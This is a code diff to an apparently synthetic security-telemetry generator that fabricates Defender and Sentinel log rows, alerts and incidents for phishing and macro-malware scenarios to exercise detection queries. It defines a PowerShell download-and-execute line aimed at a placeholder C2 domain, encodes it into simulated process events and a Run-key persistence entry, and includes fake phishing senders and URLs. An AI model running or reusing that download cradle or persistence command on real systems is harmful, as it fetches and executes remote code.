@@ -59,16 +59,16 @@ TABLES = [
 BUNDLE_ROWS = {
     "SecurityAlert": 0,            # scenarios + the per-product quotas below
     "SecurityIncident": 0,         # one or more rows per alert group
-    "DeviceInfo": 110,
-    "DeviceNetworkInfo": 70,
-    "DeviceProcessEvents": 150,
-    "DeviceNetworkEvents": 130,
-    "DeviceFileEvents": 75,
-    "DeviceRegistryEvents": 45,
-    "DeviceLogonEvents": 110,
-    "DeviceImageLoadEvents": 35,
-    "DeviceEvents": 110,
-    "DeviceFileCertificateInfo": 45,
+    "DeviceInfo": 70,
+    "DeviceNetworkInfo": 50,
+    "DeviceProcessEvents": 112,
+    "DeviceNetworkEvents": 92,
+    "DeviceFileEvents": 55,
+    "DeviceRegistryEvents": 35,
+    "DeviceLogonEvents": 105,
+    "DeviceImageLoadEvents": 25,
+    "DeviceEvents": 78,
+    "DeviceFileCertificateInfo": 35,
     "EmailEvents": 140,
     "EmailAttachmentInfo": 0,      # follows the messages of EmailEvents
     "EmailPostDeliveryEvents": 0,  # idem
@@ -77,12 +77,12 @@ BUNDLE_ROWS = {
 
 # Filler alerts per product in the bundle (the scenarios add more).
 ALERT_QUOTA = {
-    "Microsoft Defender Advanced Threat Protection": 14,
-    "Office 365 Advanced Threat Protection": 6,
-    "Azure Advanced Threat Protection": 7,
-    "Azure Security Center": 9,
-    "Defender for IoT": 9,
-    "Azure Sentinel": 6,
+    "Microsoft Defender Advanced Threat Protection": 10,
+    "Office 365 Advanced Threat Protection": 5,
+    "Azure Advanced Threat Protection": 6,
+    "Azure Security Center": 7,
+    "Defender for IoT": 8,
+    "Azure Sentinel": 4,
 }
 
 # ---------------------------------------------------------------------------
@@ -364,13 +364,15 @@ class World:
     def __init__(self, seed: int, now: int):
         self.seed, self.now = seed, now
         self.start = now - 14 * DAY
-        # The empty day: the calendar day of NOW-7d plus, when NOW is not at
-        # midnight, up to the end of the NOW-aligned daily bin that starts in
-        # it, so that bin(t, 1d) and bin_at(t, 1d, now()) both show an empty day.
+        # The empty day: the calendar day of NOW-7d joined with a NOW-aligned
+        # daily bin next to it (the one giving the shorter gap, at most 36 h),
+        # so that bin(t, 1d) and bin_at(t, 1d, now()) both show an empty day.
         g0 = day_floor(now - 7 * DAY)
-        k = -(-(now - g0) // DAY)  # first NOW-aligned bin start >= g0
-        b0 = now - k * DAY
-        self.gap = (g0, max(g0 + DAY, b0 + DAY))
+        before = g0 - (g0 - now) % DAY          # last NOW-aligned bin start <= g0
+        after = before if before == g0 else before + DAY
+        self.gap_day = g0
+        self.gap_bin = before if g0 - before < after - g0 else after
+        self.gap = (min(g0, self.gap_bin), max(g0, self.gap_bin) + DAY)
         r = self.rng = Rng(f"{seed}:world")
         self.tenant = r.guid()
         self.subscription = r.guid()
@@ -415,6 +417,7 @@ class World:
                 ("81.2.69.%d" % r.randint(140, 190) if not d.server else "20.61.14.5")
             d.report = r.randint(1000, 90000)
             d.logon_base = r.randint(0x10000, 0xFFFFFF)
+            d.merged_from = ""
             self.devices.append(d)
         self.dev = {d.short: d for d in self.devices}
         self.exe = {}
@@ -574,7 +577,7 @@ def subject(p: Proc) -> dict:
 def dev_row(w: World, table: str, dev: Device, t: int) -> dict:
     return {"Timestamp": t, "TimeGenerated": t, "DeviceId": dev.id, "DeviceName": dev.name,
             "MachineGroup": dev.group, "ReportId": w.next_report(dev), "TenantId": w.tenant,
-            "SourceSystem": "", "Type": table, "AppGuardContainerId": ""}
+            "SourceSystem": "Azure", "Type": table, "AppGuardContainerId": ""}
 
 
 def q(path: str) -> str:
@@ -767,6 +770,10 @@ def file_row(w: World, dev: Device, t: int, p: Proc, action: str, folder: str, n
     md5, sha1, sha256 = hashes(folder + name + str(size))
     row.update({"ActionType": action, "FileName": name, "FolderPath": folder + sep + name,
                 "FileSize": size, "MD5": md5, "SHA1": sha1, "SHA256": sha256})
+    ftype = {"exe": "PortableExecutable", "dll": "PortableExecutable", "pdf": "Pdf", "docx": "Docx", "xlsx": "Xlsx",
+             "docm": "Docm", "xlsm": "Xlsm", "msi": "Msi", "dmp": "Dmp"}.get(name.rsplit(".", 1)[-1].lower())
+    if ftype and action in ("FileCreated", "FileModified"):
+        row["AdditionalFields"] = {"FileType": ftype}
     return row
 
 
@@ -915,9 +922,14 @@ def fill_logon(w: World, rng: Rng) -> list[dict]:
         return [logon_row(w, rng, dev, t, w.system, "LogonSuccess", "Service", "Negotiate")]
     u = dev.owner
     r = rng.random()
-    if r < 0.08:   # a mistyped password, then the user gets in
+    if r < 0.1:
+        # the source side of an RDP session: mstsc.exe run by the user
+        ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, day_floor(t) + 7 * HOUR, parent_name="userinit.exe")
+        ms = proc(w, rng, dev, "mstsc.exe", '"C:\\WINDOWS\\system32\\mstsc.exe" /v:srv-rds-01.contoso.local', u, t - 3 * TICKS, ex)
+        return [logon_row(w, rng, dev, t, u, "LogonAttempted", "RemoteInteractive", "Negotiate", "10.1.9.21", "srv-rds-01.contoso.local", ms)]
+    if r < 0.14:   # a mistyped password, then the user gets in
         return [logon_row(w, rng, dev, t, u, "LogonFailed", "Unlock", "Negotiate", failure="InvalidUserNameOrPassword"),
-                logon_row(w, rng, dev, t + rng.randint(5, 40) * TICKS, u, "LogonSuccess", "Unlock", "Negotiate")]
+                logon_row(w, rng, dev, w.fix(t + rng.randint(5, 40) * TICKS), u, "LogonSuccess", "Unlock", "Negotiate")]
     ltype = rng.wpick([(40, "Unlock"), (30, "Interactive"), (10, "CachedInteractive"), (20, "Network")])
     if ltype == "Network":
         return [logon_row(w, rng, dev, t, w.admin if rng.chance(0.3) else u, "LogonSuccess", "Network", "Kerberos", "10.1.0.10", "SRV-DC-01")]
@@ -1115,11 +1127,12 @@ def info_row(w: World, rng: Rng, dev: Device, t: int) -> dict:
         "ExposureLevel": exposure, "IsAzureADJoined": dev.windows and not dev.server,
         "IsExcluded": False, "IsInternetFacing": dev.facing,
         "JoinType": "" if not dev.windows else ("Domain Joined" if dev.server else "Hybrid Azure AD Join"),
-        "LoggedOnUsers": users, "MergedDeviceIds": "", "MergedToDeviceId": "",
+        "LoggedOnUsers": users, "MergedToDeviceId": "",
         "Model": model, "Vendor": vendor, "OnboardingStatus": "Onboarded", "OSArchitecture": "64-bit",
         "OSBuild": build or None, "OSDistribution": dist, "OSPlatform": dev.platform,
         "OSVersion": ver, "OSVersionInfo": vinfo, "PublicIP": dev.public_ip,
         "RegistryDeviceTag": "PCI" if dev.short == "srv-sql-03" else "",
+        "MergedDeviceIds": dev.merged_from if t > w.merge_t else "",
         "SensorHealthState": "Active" if rng.chance(0.95) else "ImpairedCommunication",
     })
     return row
@@ -1144,7 +1157,8 @@ def fill_netinfo(w: World, rng: Rng) -> list[dict]:
         "DefaultGateways": [gw], "DnsAddresses": [gw] if away else ["10.1.0.10", "10.1.0.11"],
         "IPAddresses": [{"IPAddress": ip, "SubnetPrefix": 24, "AddressType": "Private"},
                         {"IPAddress": "fe80::" + ":".join(dev.id[i:i + 4] for i in (0, 4, 8, 12)), "SubnetPrefix": 64, "AddressType": "Private"}],
-        "IPv4Dhcp": gw if away else ("" if dev.server else "10.1.0.10"), "IPv6Dhcp": "",
+        "IPv4Dhcp": gw if away else ("" if dev.server else "10.1.0.10"),
+        "IPv6Dhcp": "fe80::9a9b:cbff:fe12:3456" if away else "",
         "MacAddress": dev.mac.replace("-", ""),
         "NetworkAdapterName": "Wi-Fi" if laptop else ("eth0" if dev.platform == "Linux" else "Ethernet"),
         "NetworkAdapterStatus": "Up", "NetworkAdapterType": "Wireless80211" if laptop else "Ethernet",
@@ -1208,15 +1222,20 @@ def new_message(w: World, rng: Rng, t: int, kind: str, **over) -> dict:
             subject = rng.choice(PARTNER_SUBJECTS).format(n=rng.randint(1000, 99999), org=org)
             mail_from, ip = f"bounces+{rng.randint(1000, 99999)}@mail.{org_dom}", f"40.107.{rng.randint(1, 250)}.{rng.randint(1, 250)}"
             if org_dom == "fabrikam.com":
-                m["connectors"] = "Inbound from Fabrikam"
+                m.update(connectors="Inbound from Fabrikam", org_action="Allow", org_policy="Exchange transport rule")
         elif kind == "newsletter":
             dom = rng.choice(["news.relecloud.com", "mail.litwareinc.com"])
             name, local = dom.split(".")[1].title() + " News", "newsletter"
             subject, mail_from = rng.choice(NEWSLETTER_SUBJECTS), f"bounce-{rng.hexs(10)}@{dom}"
             ip = f"209.85.{rng.randint(128, 250)}.{rng.randint(1, 250)}"
             m["bcl"] = rng.randint(4, 7)
+            if rng.chance(0.2):
+                m.update(user_action="Move to Junk", user_policy="User blocked sender list", delivery="Junked",
+                         location="Junk folder")
         else:
             dom, local = rng.choice(["bestprice-offers.biz", "parcel-notice.info"]), rng.choice(["deals", "info", "notice"])
+            if dom == "parcel-notice.info":
+                m.update(org_action="Move to Junk", org_policy="Blocked sender domain list")
             name, subject = "Customer Service", rng.choice(SPAM_SUBJECTS)
             mail_from, ip = f"{local}@{dom}", f"192.0.2.{rng.randint(10, 250)}"
             m.update(threat="Spam", detect=jtext({"Spam": ["Advanced filter"]}), confidence=jtext({"Spam": "High"}),
@@ -1225,7 +1244,7 @@ def new_message(w: World, rng: Rng, t: int, kind: str, **over) -> dict:
                      auth={"SPF": "softfail", "DKIM": "none", "DMARC": "fail", "CompAuth": "fail"})
         if rng.chance(0.15):
             m["sender_ip6"], ip = f"2a01:111:f403:{rng.randint(2000, 2999):x}::{rng.randint(1, 900):x}", ""
-        rc = rng.sample(w.users, rng.randint(1, 2 if kind != "newsletter" else 4))
+        rc = rng.sample(w.users, rng.randint(1, 2 if kind != "newsletter" else 3))
         m.update(direction="Inbound", sender=f"{local}@{dom}", sender_name=name, mail_from=mail_from,
                  sender_ip=ip, subject=subject, rcpts=[recipient(u) for u in rc],
                  imid=f"<{rng.hexs(16)}.{rng.hexs(8)}@{dom}>")
@@ -1247,12 +1266,12 @@ def message_rows(w: World, rng: Rng, m: dict) -> dict[str, list[dict]]:
     t = m["t"]
     dom = m["sender"].split("@")[1]
     base = {"Timestamp": t, "TimeGenerated": t, "NetworkMessageId": m["id"], "TenantId": w.tenant,
-            "SourceSystem": "", "SenderFromAddress": m["sender"], "SenderDisplayName": m["sender_name"],
+            "SourceSystem": "Azure", "SenderFromAddress": m["sender"], "SenderDisplayName": m["sender_name"],
             "SenderObjectId": m["sender_oid"]}
     for i, (addr, oid) in enumerate(m["rcpts"]):
         post = [p for p in m["post"] if p["rcpt"] == addr]
         last = post[-1] if post else None
-        tr = t + i * rng.randint(1, 9000)  # per-recipient delivery within a second
+        tr = w.fix(t + i * rng.randint(1, 9000))  # per-recipient delivery within a second
         row = dict(base, Timestamp=tr, TimeGenerated=tr, Type="EmailEvents", RecipientEmailAddress=addr,
                    RecipientObjectId=oid, ReportId=f"{m['id']}-{rng.getrandbits(62)}-{i}",
                    InternetMessageId=m["imid"], Subject=m["subject"], EmailDirection=m["direction"],
@@ -1281,7 +1300,7 @@ def message_rows(w: World, rng: Rng, m: dict) -> dict[str, list[dict]]:
         for p in post:
             out["EmailPostDeliveryEvents"].append({
                 "Timestamp": p["t"], "TimeGenerated": p["t"], "Type": "EmailPostDeliveryEvents", "TenantId": w.tenant,
-                "SourceSystem": "", "NetworkMessageId": m["id"], "InternetMessageId": m["imid"],
+                "SourceSystem": "Azure", "NetworkMessageId": m["id"], "InternetMessageId": m["imid"],
                 "RecipientEmailAddress": addr, "ReportId": f"{m['id']}-{rng.getrandbits(62)}-{i}",
                 "Action": p["action"], "ActionType": p["type"], "ActionTrigger": p["trigger"],
                 "ActionResult": p["result"], "DeliveryLocation": p["location"],
@@ -1289,7 +1308,7 @@ def message_rows(w: World, rng: Rng, m: dict) -> dict[str, list[dict]]:
     for url, loc in m["urls"]:
         host = url.split("/")[2]
         out["EmailUrlInfo"].append({"Timestamp": t, "TimeGenerated": t, "Type": "EmailUrlInfo", "TenantId": w.tenant,
-                                    "SourceSystem": "", "NetworkMessageId": m["id"],
+                                    "SourceSystem": "Azure", "NetworkMessageId": m["id"],
                                     "ReportId": f"{m['id']}-{rng.getrandbits(62)}-u", "Url": url,
                                     "UrlDomain": host, "UrlLocation": loc})
     return out
@@ -1306,11 +1325,56 @@ def zap(m: dict, rcpt: str, t: int, kind: str = "Phish ZAP", result: str = "Succ
                       "threat": threat, "detect": m["detect"]})
 
 
+FILLER_PHISH = [("payroll@contoso-payroll-portal.com", "Contoso Payroll", "Your November payslip is available"),
+                ("no-reply@microsoft-365-alerts.net", "Microsoft 365", "Unusual sign-in activity detected"),
+                ("voicemail@fabrikam-voice.com", "Voicemail Service", "New voicemail from +1 425 555 0199")]
+
+
+def threat_message(w: World, rng: Rng, t: int, kind: str) -> dict:
+    """Filler phish / malware: blocked at delivery, or delivered and removed later."""
+    if kind == "phish":
+        sender, name, subject = rng.choice(FILLER_PHISH)
+        dom = sender.split("@")[1]
+        m = new_message(w, rng, t, "partner", sender=sender, sender_name=name, mail_from=sender,
+                        sender_ip=f"203.0.113.{rng.randint(100, 250)}", sender_ip6="", subject=subject,
+                        rcpts=[recipient(u) for u in rng.sample(w.users, rng.randint(1, 3))],
+                        imid=f"<{rng.hexs(20)}@{dom}>", urls=[(f"https://{dom}/login?session={rng.hexs(16)}", "Body")],
+                        attachments=[], threat="Phish", detect=jtext({"Phish": ["URL malicious reputation"]}),
+                        confidence=jtext({"Phish": rng.choice(["High", "Normal"])}), connectors="", lang="en", bcl=0,
+                        org_action="", org_policy="", auth={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "fail"})
+        later = "Phish ZAP"
+    else:
+        name = f"Invoice_{rng.randint(1000, 9999)}." + rng.choice(["docm", "xlsm", "zip", "htm"])
+        m = new_message(w, rng, t, "partner", sender=f"billing@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Billing",
+                        mail_from=f"billing@{MALWARE_SENDER_DOMAIN}", sender_ip=f"198.51.100.{rng.randint(60, 90)}",
+                        sender_ip6="", subject=f"Invoice {rng.randint(10000, 99999)} overdue",
+                        rcpts=[recipient(u) for u in rng.sample(w.users, rng.randint(1, 2))],
+                        imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>", urls=[], connectors="", org_action="",
+                        org_policy="", attachments=[(name, rng.randint(20000, 90000), "Malware", "TrojanDownloader:O97M/Donoff",
+                                                     jtext({"Malware": ["File detonation"]}))],
+                        threat="Malware", threat_names="TrojanDownloader:O97M/Donoff",
+                        detect=jtext({"Malware": ["File detonation"]}), confidence=jtext({"Malware": "High"}), bcl=0)
+        later = "Malware ZAP"
+    if rng.chance(0.5):
+        m.update(delivery="Blocked", location="Quarantine", email_action="Send message to quarantine",
+                 policy="Antiphish" if kind == "phish" else "Antimalware", policy_guid=w.spam_policy)
+    else:
+        zt = w.fix(t + rng.randint(20, 400) * MINUTE)
+        for addr, _ in m["rcpts"]:
+            zap(m, addr, w.fix(jitter(rng, zt, 120)), later)
+    return m
+
+
 def filler_message(w: World, i: int) -> dict:
     while len(w.filler_messages) <= i:
         rng = w.mail_rng
-        kind = rng.wpick([(45, "partner"), (20, "internal"), (10, "outbound"), (15, "newsletter"), (10, "spam")])
-        m = new_message(w, rng, w.rand_time(rng), kind)
+        kind = rng.wpick([(42, "partner"), (18, "internal"), (10, "outbound"), (14, "newsletter"), (10, "spam"),
+                          (4, "phish"), (2, "malware")])
+        t = w.rand_time(rng)
+        if kind in ("phish", "malware"):
+            m = threat_message(w, rng, t, kind)
+        else:
+            m = new_message(w, rng, t, kind)
         if kind == "spam" and rng.chance(0.25):
             zap(m, m["rcpts"][0][0], w.fix(m["t"] + rng.randint(2, 30) * HOUR), "Manual remediation")
         w.filler_messages.append((m, message_rows(w, rng, m)))
@@ -1440,7 +1504,8 @@ def make_alert(w: World, rng: Rng, product: str, name: str, t: int, severity: st
         "Description": desc or f"{name}.", "StartTime": start, "EndTime": end,
         "ProcessingEndTime": t - rng.randint(5, 90) * TICKS - rng.randint(0, TICKS),
         "Entities": ents.json() if ents else "[]",
-        "ExtendedLinks": jtext(links) if links else "",
+        "ExtendedLinks": jtext(links) if links else (jtext([{"Href": link, "Category": None, "Label": "Alert details",
+                                                               "Type": "webLink"}]) if product == ASC else ""),
         "ExtendedProperties": jtext(props), "IsIncident": False,
         "ProductComponentName": component, "ProductName": product, "ProviderName": provider,
         "RemediationSteps": jtext(list(remediation)) if remediation else "",
@@ -1528,3 +1593,1089 @@ def make_incident(w: World, rng: Rng, provider: str, alerts: list[dict], title: 
         })
     w.rows["SecurityIncident"].extend(rows)
     return rows
+
+
+# ---------------------------------------------------------------------------
+# scenarios: correlated rows across tables that detection queries look for
+
+
+def add(w: World, table: str, row: dict) -> dict:
+    w.rows[table].append(row)
+    return row
+
+
+def add_msg(w: World, rng: Rng, m: dict) -> None:
+    w.messages.append(m)
+    for table, rows in message_rows(w, rng, m).items():
+        w.rows[table].extend(rows)
+
+
+def dpe(w: World, rng: Rng, dev: Device, t: int, parent: Proc, child: Proc) -> dict:
+    row = dev_row(w, "DeviceProcessEvents", dev, t)
+    row.update(initiating(parent))
+    row.update(subject(child))
+    row["ActionType"] = "ProcessCreated"
+    return add(w, "DeviceProcessEvents", row)
+
+
+def minute_floor(t: int) -> int:
+    return t - t % MINUTE
+
+
+def jitter(rng: Rng, t: int, seconds: int = 59) -> int:
+    return t + rng.randint(0, seconds) * TICKS + rng.randint(0, TICKS - 1)
+
+
+def scen_phish_a(w: World, rng: Rng) -> None:
+    """Phish with a credential-harvesting URL, one click, then Phish ZAP."""
+    t = w.fix(jitter(rng, day_floor(w.now - 11 * DAY) + 9 * HOUR + 12 * MINUTE))
+    rc = [w.users[i] for i in (2, 4, 10, 14)]
+    url = f"https://{PHISH_DOMAIN}/owa/auth/logon.aspx?replaceCurrent=1&u={rng.hexs(24)}"
+    m = new_message(w, rng, t, "partner", sender=f"it-support@{PHISH_DOMAIN}", sender_name="Contoso IT Support",
+                    mail_from=f"it-support@{PHISH_DOMAIN}", sender_ip="203.0.113.90", sender_ip6="",
+                    subject="Action required: your password expires today", rcpts=[recipient(u) for u in rc],
+                    imid=f"<{rng.hexs(20)}@{PHISH_DOMAIN}>", urls=[(url, "Body")], attachments=[],
+                    threat="Phish", detect=jtext({"Phish": ["URL detonation reputation"]}),
+                    confidence=jtext({"Phish": "Normal", "Spam": None}), connectors="", lang="en",
+                    auth={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "fail"},
+                    extra={"IsFirstContact": True}, bcl=1)
+    zt = t + 2 * HOUR + 47 * MINUTE
+    for u in rc:
+        zap(m, u.upn, jitter(rng, zt, 90), "Phish ZAP")
+    add_msg(w, rng, m)
+    w.phish_a = m
+    # Elena clicks before the ZAP
+    dev, u = w.dev["lt-sales-221"], w.users[4]
+    tc = jitter(rng, t + 38 * MINUTE)
+    outl = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), u, t - 3 * HOUR, parent_name="explorer.exe")
+    ev = dev_row(w, "DeviceEvents", dev, tc)
+    ev.update(initiating(outl))
+    ev.update({"ActionType": "BrowserLaunchedToOpenUrl", "RemoteUrl": url})
+    add(w, "DeviceEvents", ev)
+    edge = proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]) + f" --single-argument {url}", u, tc + 2 * TICKS, outl)
+    dpe(w, rng, dev, tc + 2 * TICKS, outl, edge)
+    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, tc + 3 * TICKS, edge, "ConnectionSuccess", PHISH_IP, 443, PHISH_DOMAIN))
+    e = Ents()
+    mb = e.mailbox(u)
+    e.mail(m, u.upn)
+    e.url(url)
+    e.ip("203.0.113.90")
+    a1 = make_alert(w, rng, OATP, "A potentially malicious URL click was detected", w.fix(tc + 4 * MINUTE), "High",
+                    ents=e, tactics=("InitialAccess",), techniques=("T1566",), subtechniques=("T1566.002",),
+                    compromised=u.upn, desc=f"{u.display} clicked a URL that was later found to be malicious.",
+                    ext={"Category": "ThreatManagement", "Detector": "UrlClickVerdict"})
+    e = Ents()
+    for x in rc:
+        e.mailbox(x)
+    e.url(url)
+    a2 = make_alert(w, rng, OATP, "Email messages containing malicious URL removed after delivery", w.fix(zt + 6 * MINUTE),
+                    "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
+                    desc="Emails with a malicious URL that were delivered and later removed (ZAP).",
+                    ext={"Category": "ThreatManagement", "Zapped messages": str(len(rc))})
+    make_incident(w, rng, "Microsoft 365 Defender", [a1, a2],
+                  "Phishing campaign with a malicious URL click involving one user",
+                  comment="Password reset for elena.petrova; sign-ins reviewed, no MFA bypass.", labels=("Phishing",))
+
+
+def scen_phish_b(w: World, rng: Rng) -> None:
+    """A second phish wave: ZAP fails for one mailbox, an admin removes it."""
+    t = w.fix(jitter(rng, day_floor(w.now - 3 * DAY) + 10 * HOUR + 4 * MINUTE))
+    rc = [w.users[i] for i in (0, 1, 10, 12, 8)]
+    url = f"https://{PHISH_DOMAIN2}/sites/finance/Shared%20Documents/Payroll.aspx?id={rng.hexs(16)}"
+    m = new_message(w, rng, t, "partner", sender=f"docs@{PHISH_DOMAIN2}", sender_name="Ben Okafor via SharePoint",
+                    mail_from=f"bounce@{PHISH_DOMAIN2}", sender_ip=PHISH_IP2, sender_ip6="",
+                    subject='Ben Okafor shared "Q4 Payroll adjustments" with you', rcpts=[recipient(u) for u in rc],
+                    imid=f"<{rng.hexs(20)}@{PHISH_DOMAIN2}>",
+                    urls=[(url, "Body"), (f"https://{PHISH_DOMAIN2}/_layouts/15/images/docicon.png", "Body")],
+                    attachments=[], threat="Phish", detect=jtext({"Phish": ["URL malicious reputation", "Impersonation brand"]}),
+                    confidence=jtext({"Phish": "High", "Spam": None}), lang="en",
+                    auth={"SPF": "pass", "DKIM": "pass", "DMARC": "none", "CompAuth": "softpass"}, bcl=0)
+    zt = t + HOUR + 10 * MINUTE
+    for i, u in enumerate(rc):
+        zap(m, u.upn, jitter(rng, zt, 60), "Phish ZAP", result="Error" if i == 3 else "Success")
+    zap(m, rc[3].upn, jitter(rng, zt + 3 * HOUR + 12 * MINUTE), "Manual remediation")
+    add_msg(w, rng, m)
+    w.phish_b = m
+    e = Ents()
+    for x in rc:
+        e.mailbox(x)
+    e.url(url)
+    e.ip(PHISH_IP2)
+    a = make_alert(w, rng, OATP, "Email messages containing malicious URL removed after delivery", w.fix(zt + 5 * MINUTE),
+                   "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
+                   desc="Emails with a malicious URL that were delivered and later removed (ZAP).",
+                   ext={"Category": "ThreatManagement", "Zapped messages": str(len(rc) - 1)})
+    make_incident(w, rng, "Microsoft 365 Defender", [a], "Email messages containing malicious URL removed after delivery involving 5 users",
+                  severity="Medium", comment="ZAP failed for maya.cohen; removed manually from Threat Explorer.",
+                  labels=("Phishing",))
+
+
+ENC_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://{d}/k/update.ps1')"
+
+
+def office_to_powershell(w: World, rng: Rng, dev: Device, u: Account, t: int, doc: str, app: str, flag: str) -> tuple[Proc, int]:
+    """Outlook saves an attachment, Office opens it, Office starts encoded PowerShell."""
+    folder = f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.hexs(8, True)}"
+    outl = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), u, t - 2 * HOUR, parent_name="explorer.exe")
+    add(w, "DeviceFileEvents", file_row(w, dev, t, outl, "FileCreated", folder, doc, 48128 + rng.randint(0, 20000)))
+    t2 = t + 40 * TICKS + rng.randint(0, TICKS)
+    verb = "/n" if app == "WINWORD.EXE" else ""
+    office = proc(w, rng, dev, app, q(w.exe[app]["path"]) + f' {verb} "{folder}\\{doc}" /o ""'.replace("  ", " "), u, t2, outl)
+    dpe(w, rng, dev, t2, outl, office)
+    il = dev_row(w, "DeviceImageLoadEvents", dev, t2 + 25 * TICKS)
+    il.update(initiating(office))
+    vbe = DLLS[7][0]
+    md5, sha1, sha256 = hashes(vbe)
+    il.update({"ActionType": "ImageLoaded", "FileName": "VBE7.DLL", "FolderPath": vbe, "FileSize": 3110912,
+               "MD5": md5, "SHA1": sha1, "SHA256": sha256})
+    add(w, "DeviceImageLoadEvents", il)
+    t4 = t2 + 31 * TICKS + rng.randint(0, TICKS)
+    ps = proc(w, rng, dev, "powershell.exe", f"powershell.exe -nop -w hidden {flag} {b64_ps(ENC_SCRIPT.format(d=C2_DOMAIN))}", u, t4, office)
+    dpe(w, rng, dev, t4, office, ps)
+    ev = dev_row(w, "DeviceEvents", dev, t4 + 2 * TICKS)
+    ev.update(initiating(ps))
+    ev.update({"ActionType": "PowerShellCommand", "AdditionalFields": {"Command": "Invoke-Expression"}})
+    add(w, "DeviceEvents", ev)
+    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t4 + 3 * TICKS, ps, "ConnectionSuccess", C2_IP, 80, C2_DOMAIN))
+    return ps, t4
+
+
+def scen_macro_malware(w: World, rng: Rng) -> None:
+    """Invoice .docm -> WINWORD -> powershell -enc -> C2, Run key, AV, Malware ZAP."""
+    dev, u = w.dev["ws-fin-042"], w.users[0]
+    t = w.fix(jitter(rng, day_floor(w.now - 10 * DAY) + 10 * HOUR + 5 * MINUTE))
+    doc = "Invoice_4471.docm"
+    w.macro_t = t
+    m = new_message(w, rng, t, "partner", sender=f"accounts@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Accounts",
+                    mail_from=f"accounts@{MALWARE_SENDER_DOMAIN}", sender_ip="198.51.100.61", sender_ip6="",
+                    subject="Overdue invoice INV-4471", rcpts=[recipient(u)], imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>",
+                    urls=[], attachments=[(doc, 48128, "Malware", "TrojanDownloader:O97M/Donoff.SS!MTB",
+                                           jtext({"Malware": ["File detonation"]}))],
+                    threat="Malware", threat_names="TrojanDownloader:O97M/Donoff.SS!MTB",
+                    detect=jtext({"Malware": ["File detonation"]}), confidence=jtext({"Malware": "High"}), bcl=0)
+    zt = t + 2 * HOUR + 3 * MINUTE
+    zap(m, u.upn, jitter(rng, zt), "Malware ZAP")
+    add_msg(w, rng, m)
+    ps, t4 = office_to_powershell(w, rng, dev, u, t + 14 * MINUTE, doc, "WINWORD.EXE", "-enc")
+    rr = dev_row(w, "DeviceRegistryEvents", dev, t4 + 9 * TICKS)
+    rr.update(initiating(ps))
+    run = f"powershell.exe -w hidden -EncodedCommand {b64_ps(ENC_SCRIPT.format(d=C2_DOMAIN))}"
+    rr.update({"ActionType": "RegistryValueSet", "RegistryKey": f"HKEY_CURRENT_USER\\{u.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+               "RegistryValueName": "OfficeUpdate", "RegistryValueType": "String", "RegistryValueData": run,
+               "PreviousRegistryKey": "", "PreviousRegistryValueName": "", "PreviousRegistryValueData": ""})
+    add(w, "DeviceRegistryEvents", rr)
+    av = dev_row(w, "DeviceEvents", dev, t4 + 20 * TICKS)
+    mp = proc(w, rng, dev, "MsMpEng.exe", q(w.exe["MsMpEng.exe"]["path"]), w.system, t - 3 * DAY, parent_name="services.exe")
+    av.update(initiating(mp))
+    md5, sha1, sha256 = hashes(doc)
+    av.update({"ActionType": "AntivirusDetection", "FileName": doc, "FolderPath": f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{doc}",
+               "SHA1": sha1, "SHA256": sha256, "MD5": md5, "FileSize": 48128,
+               "AdditionalFields": {"ThreatName": "TrojanDownloader:O97M/Donoff.SS!MTB", "WasExecutingWhileDetected": True,
+                                    "WasRemediated": True, "ReportSource": "Realtime", "Action": "quarantine", "Category": "Trojan"}})
+    add(w, "DeviceEvents", av)
+    e = Ents()
+    h, a = e.host(dev), e.account(u)
+    e.process(ps, h, a)
+    e.ip(C2_IP)
+    e.url(f"http://{C2_DOMAIN}/k/update.ps1")
+    alerts = [make_alert(w, rng, MDATP, "Suspicious PowerShell command line", w.fix(t4 + 4 * MINUTE), "Medium", ents=e,
+                         tactics=("Execution",), techniques=("T1059",), subtechniques=("T1059.001",), compromised=dev.name,
+                         desc="A suspicious PowerShell command line was found: an encoded command started by Microsoft Word.",
+                         remediation=["Isolate the device.", "Collect an investigation package.", "Reset the user's credentials."])]
+    e = Ents()
+    e.host(dev)
+    e.account(u)
+    e.file(doc, f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook", sha1, sha256)
+    e.add({"Name": "TrojanDownloader:O97M/Donoff.SS!MTB", "Category": "Trojan", "Type": "malware"})
+    alerts.append(make_alert(w, rng, MDATP, "'Donoff' malware was detected", w.fix(t4 + 3 * MINUTE), "High", ents=e,
+                             tactics=("Execution", "Persistence"), techniques=("T1204", "T1547"),
+                             subtechniques=("T1204.002", "T1547.001"), compromised=dev.name, alert_type="WindowsDefenderAv",
+                             desc="Malware was detected and remediated: TrojanDownloader:O97M/Donoff.SS!MTB."))
+    e = Ents()
+    e.mailbox(u)
+    e.mail(m, u.upn)
+    e.file(doc, "", "", sha256)
+    alerts.append(make_alert(w, rng, OATP, "Email messages containing malware removed after delivery", w.fix(zt + 5 * MINUTE),
+                             "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
+                             subtechniques=("T1566.001",), ext={"Category": "ThreatManagement"}))
+    make_incident(w, rng, "Microsoft 365 Defender", alerts,
+                  "Multi-stage incident involving Initial access & Execution on one endpoint reported by multiple sources",
+                  comment="Device isolated and reimaged; Run key removed; C2 domain blocked.", tasks=("Isolate device", "Reset password"))
+    e = Ents()
+    e.host(dev)
